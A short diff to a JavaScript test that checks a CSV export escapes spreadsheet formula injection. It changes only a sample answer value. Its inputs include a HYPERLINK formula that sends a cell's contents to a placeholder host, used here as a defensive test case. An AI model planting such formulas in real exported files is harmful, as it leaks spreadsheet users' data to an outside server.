@@ -108,7 +108,7 @@ describe('what is written', () => {
   it.each(['=HYPERLINK("http://x/?"&A1,"y")', '+1', '-1', '@SUM(A1)', "'=1", "''-"])(
     'a formula is words to programs that calculate, and the same when it is read',
     (title) => {
-      const answer = '- 一\n- 二';
+      const answer = '- 一';
       const text =
         fileHead('csv') + fileEntry('csv', { ...entry, title, answer, phrases: [] }, true);
       expect(text).not.toMatch(/(?:^|,)"?[=+@-]/m);
